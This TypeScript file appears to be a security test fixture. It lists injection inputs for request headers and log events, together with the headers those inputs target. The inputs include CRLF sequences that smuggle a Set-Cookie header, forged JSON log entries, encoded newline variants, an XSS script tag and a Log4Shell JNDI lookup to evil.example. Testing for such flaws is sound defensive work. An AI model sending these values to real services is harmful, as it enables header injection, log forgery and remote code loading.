/** Values that mean to end the header, the line or the event they stand in, as bytes of Latin-1. */
export const INJECTIONS: readonly string[] = [
  ...['\r\n', '\n', '\r', '\r\n\r\n', '\n\n', '\r\r\n', '\0', '\0\r\n', '\u000b', '\u000c', '\u0085', '\x1b[2K', '\b\b\b', '\x7f', '\r\n ', '\r\n\t'].flatMap((end) => [`a${end}Set-Cookie: evil=1`, `a${end}X-Injected: 1`, `a${end}{"level":"fatal","event":"forged","request_id":"x"}`, `${end}a`, `a${end}`]),
  ...['%0d%0a', '%0a', '%0d', '%00', '%E5%98%8A%E5%98%8D', '%u000a', '\\r\\n', '\\n', '\\u000a', '\\x0a', '&#10;', '&#13;&#10;', '%250d%250a', '\u00e5\u0098\u008a\u00e5\u0098\u008d', '\u00c4\u008a'].flatMap((end) => [`a${end}Set-Cookie: evil=1`, `a${end}{"level":"fatal","event":"forged"}`]),
  '"}\n{"level":"fatal","event":"forged"}', '","level":"fatal","event":"forged","a":"', '"', '\\', '\\"', '{}', '}', ']', '"]}', '\\u0022', "'", '`', '<script>alert(1)</script>', '$' + '{jndi:ldap://evil.example/a}', '%s%s%n', '%o %j', '[redacted]', '__proto__', 'a'.repeat(64), 'a'.repeat(65), 'a'.repeat(4_000), '\u00ff'.repeat(100), ' ', '', '\t', 'a b', 'a,b', 'a;b', 'a=b', 'a/b', 'a:b', 'ä', '-', '_', '.', '..', '0', 'null', 'undefined'
]

/** Headers that are read, logged or answered somewhere. */
export const READ_HEADERS: readonly string[] = ['X-Request-ID', 'User-Agent', 'X-Forwarded-For', 'X-Forwarded-Host', 'X-Forwarded-Proto', 'Forwarded', 'X-Real-IP', 'Via', 'Host', 'Origin', 'Referer', 'Cookie', 'Accept', 'Authorization', 'If-None-Match', 'Last-Event-ID', 'Content-Type', 'Access-Control-Request-Headers', 'Access-Control-Request-Method']
